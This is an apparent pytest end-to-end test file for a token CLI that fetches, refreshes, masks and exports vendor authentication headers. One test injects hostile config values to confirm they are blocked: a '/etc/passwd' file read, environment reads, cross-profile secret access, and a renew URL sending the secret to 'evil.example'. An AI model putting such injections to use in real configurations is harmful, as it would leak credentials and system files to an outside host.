"""Documented endpoints end to end: from the provider file to the request header."""

import json
import os
import subprocess
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import pytest

from tests.conftest import Run, script
from tests.e2e.test_shells import POSIX, each
from tests.unit.formats.test_dialects import runner_environment
from tests.zoo.cases import first, host_of, later
from tests.zoo.server import Zoo
from tests.zoo.storing import config_text, secrets_of

pytestmark = pytest.mark.long


@pytest.fixture(scope="module")
def zoo() -> Iterator[Zoo]:
    """Run the server that replays endpoints."""
    server = Zoo()
    yield server
    server.stop()


def prepare(name: str, zoo: Zoo, folder: Path) -> dict[str, str]:
    """Write an endpoint's configuration for the local server, and return the environment."""
    here = zoo.address
    zoo.serve(
        [replace(a, url=a.url.replace(host_of(name), here)) for a in (first(name), *later(name))]
    )
    path = folder / "config.toml"
    path.write_text(config_text(name, folder, here, ca_file=zoo.ca_file))
    path.chmod(0o600)
    return {**secrets_of(name), "TOKENCLI_CONFIG": str(path)}


@pytest.mark.parametrize(
    ("name", "headers"),
    [
        ("vault-approle", ["X-Vault-Token: hvs.fake"]),
        ("proxmox-ticket", ["Cookie: PVEAuthCookie=PVE:root@pam:4EEC61E2::fake", "CSRFPreventionToken: 4EEC61E2:fake"]),
        ("oracle-sbc", ["Authorization: Bearer fake-sbc-token"]),
        ("cisco-fmc", ["X-auth-access-token: fake-fmc-access"]),
    ],
)  # fmt: skip
def test_from_file_to_header(
    tokencli: Run, zoo: Zoo, tmp_path: Path, name: str, headers: list[str]
) -> None:
    """get, get from the store, refresh by the vendor's own request, and the headers for curl."""
    env = prepare(name, zoo, tmp_path)
    got = tokencli("get", "p", "--format", "header", env=env)
    assert got.code == 0, got.err + str(zoo.complaints)
    assert got.out.splitlines() == headers
    assert tokencli("get", "p", env=env).code == 0
    assert len(zoo.seen) == 1
    renewed = tokencli("refresh", "p", env=env)
    assert renewed.code == 0, renewed.err + str(zoo.complaints)
    assert zoo.seen[1] is zoo.asked[1]
    assert zoo.complaints == []


def test_trace_shows_no_secret(tokencli: Run, zoo: Zoo, tmp_path: Path) -> None:
    """It has request and response field by field, but neither the secret sent nor the token."""
    env = prepare("vault-approle", zoo, tmp_path)
    done = tokencli("get", "p", "--trace", env=env)
    assert done.out == "hvs.fake\n"
    assert "> POST https://" in done.err
    assert "role-1" in done.err
    assert '"lease_duration": 1200' in done.err
    assert "canary" not in done.err
    assert "hvs.fake" not in done.err


FIELD = "[providers.vault-approle.fields.role_id]\n"


def test_provider_reads_only_its_profile(tokencli: Run, zoo: Zoo, tmp_path: Path) -> None:
    """It can't reach another profile's secret, a file, a variable or another server."""
    prepare("vault-approle", zoo, tmp_path)
    path = tmp_path / "config.toml"
    whole = path.read_text()
    for old, new in (
        ('role_id = "{role_id}"', 'role_id = "{client_secret}"'),
        ('role_id = "{role_id}"', 'role_id = "{env:HOME}"'),
        ('role_id = "{role_id}"', 'role_id = "{file|/etc/passwd}"'),
        ('role_id = "{role_id}"', 'role_id = "{profiles.other.secret_id}"'),
        (FIELD, f'{FIELD}env = "HOME"\n'),
        ("https://{host}/v1/auth/token/renew-self", "https://evil.example/{secret_id}"),
    ):
        assert old in whole, old
        path.write_text(whole.replace(old, new))
        env = {**secrets_of("vault-approle"), "TOKENCLI_CONFIG": str(path)}
        env.pop("ZOO_CLIENT_SECRET")
        zoo.seen.clear()
        done = tokencli("get", "p", "--force", env=env)
        if "evil" in new:
            assert done.code == 0
            done = tokencli("refresh", "p", env=env)
            assert "a server that the profile does not name" in done.err
            assert len(zoo.seen) == 1
        else:
            assert zoo.seen == []
        assert done.code in (3, 4)
        assert "canary" not in done.err


def test_json_has_the_outputs(tokencli: Run, zoo: Zoo, tmp_path: Path) -> None:
    """Named outputs of a response, e.g. a CSRF token, are in the JSON."""
    env = prepare("proxmox-ticket", zoo, tmp_path)
    found = json.loads(tokencli("get", "p", "--json", env=env).out)
    assert found["outputs"] == {"csrf": "4EEC61E2:fake"}


USED = {
    "proxmox-ticket": ["CSRF", "HEADER", "HEADER_2"],
    "mtn-momo": ["HEADER", "HEADER_2", "HEADER_3"],
    "bigfix-inventory": ["QUERY"],
    "cyberark-conjur": ["HEADER"],
}
"""Endpoint -> the variables that its `use` and its outputs add to those of every token."""


@pytest.mark.parametrize("name", USED)
@pytest.mark.parametrize("shell", each(*POSIX))
def test_export_of_headers_and_queries(
    tokencli: Run, zoo: Zoo, tmp_path: Path, shell: str, name: str
) -> None:
    """`export --all-vars` sets the lines of `get --format header`, or the query.

    `--unset` removes all of them and sends no request.
    """
    env = prepare(name, zoo, tmp_path)
    query = USED[name] == ["QUERY"]
    got = tokencli("get", "p", "--format", "query" if query else "header", env=env).out.splitlines()
    variables = [f"T_{end}" for end in USED[name]]
    show = "; ".join(f'printf "%s\\n" "${{{variable}-gone}}"' for variable in variables)
    do, undo = (f"eval $(tokencli export p --all-vars --var T{more})" for more in ("", " --unset"))
    asked = len(zoo.seen)
    done = subprocess.run(
        [
            *POSIX[shell],
            "-c",
            f"set -e; {do}; {show}; {undo}; {show}".replace("tokencli", script()),
        ],
        env={**os.environ, **env},
        stdin=subprocess.DEVNULL,
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    found = done.stdout.splitlines()
    assert [v for v in found if v != "4EEC61E2:fake"] == [*got, *["gone"] * len(variables)], done
    assert found.count("4EEC61E2:fake") == ("CSRF" in USED[name])
    assert len(zoo.seen) == asked


@pytest.mark.requirement(34)
def test_all_secrets_are_masked_first(tokencli: Run, zoo: Zoo, tmp_path: Path) -> None:
    """Token, output and headers are masked in the log before the variables are set."""
    env = prepare("proxmox-ticket", zoo, tmp_path)
    place = tmp_path / "github_env"
    done = tokencli(
        "export", "p", "--format", "github_actions", "--all-vars", "--var", "T",
        env={**env, "GITHUB_ENV": str(place)},
    )  # fmt: skip
    assert (done.code, done.err) == (0, "")
    masked = [text.removeprefix("::add-mask::") for text in done.out.splitlines()]
    token, csrf = "PVE:root@pam:4EEC61E2::fake", "4EEC61E2:fake"
    assert masked == [token, csrf, f"PVEAuthCookie={token}"]
    found = runner_environment(place.read_text())
    assert found["T_HEADER_2"] == f"CSRFPreventionToken: {csrf}"
    assert list(found) == [
        "T", "T_TYPE", "T_EXPIRES_AT", "T_SCOPE", "T_CSRF", "T_HEADER", "T_HEADER_2",
    ]  # fmt: skip


def test_extra_header_secret_is_read_only_if_used(tokencli: Run, zoo: Zoo, tmp_path: Path) -> None:
    """With a stored token its variable may be missing for all but `--all-vars`."""
    env = prepare("glpi-initsession", zoo, tmp_path)
    assert tokencli("export", "p", "--all-vars", env=env).code == 0
    del env["ZOO_APP_TOKEN"]
    assert tokencli("export", "p", env=env).code == 0
    assert tokencli("export", "p", "--all-vars", "--unset", env=env).code == 0
    done = tokencli("export", "p", "--all-vars", env=env)
    assert (done.code, done.out) == (4, "false\n")
    assert "app_token" in done.err
